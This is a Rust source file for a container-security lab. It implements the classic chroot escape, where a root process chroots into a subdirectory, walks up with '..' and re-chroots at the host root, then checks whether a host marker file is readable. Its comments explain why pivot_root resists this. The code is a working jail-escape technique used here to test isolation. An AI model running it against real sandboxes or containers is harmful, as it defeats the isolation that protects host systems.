// escape.rs — the classic chroot escape (provided; lab 04 compiles it at setup time).
//
// chroot(2) changes one thing: the directory a process's "/" means. It does not change the
// current directory, and ".." stops only at the process's root. So a root process inside a
// chroot can: make a directory, chroot into it (now its cwd is *outside* its root), walk up
// with ".." past where the old root was — there is nothing to stop it — and chroot(".") at
// the real root. pivot_root(2) in a mount namespace is different: it swaps the root *mount*,
// and once the old root is unmounted there is no "above" left to walk to.
//
// Usage: escape MARKER — prints ESCAPED and exits 0 when MARKER (a host path outside the
// jail) can be read after the escape; prints "still inside" and exits 1 otherwise.
use std::env::set_current_dir;
use std::os::unix::fs::chroot;
use std::process::exit;

fn main() {
    let marker = std::env::args().nth(1).unwrap_or_else(|| "/tmp/ctrkit-lab-04/host-marker".into());
    let _ = std::fs::create_dir_all("/.escape");
    if let Err(e) = chroot("/.escape") {
        eprintln!("escape: chroot /.escape: {e}");
        exit(2);
    }
    // cwd is still the old "/", now outside our root: ".." is no longer clamped.
    for _ in 0..256 {
        let _ = set_current_dir("..");
    }
    if let Err(e) = chroot(".") {
        eprintln!("escape: chroot .: {e}");
        exit(2);
    }
    let _ = set_current_dir("/");
    match std::fs::read_to_string(&marker) {
        Ok(text) => {
            println!("ESCAPED: read {marker}: {}", text.trim());
            exit(0)
        }
        Err(_) => {
            println!("still inside: {marker} is not reachable");
            exit(1)
        }
    }
}
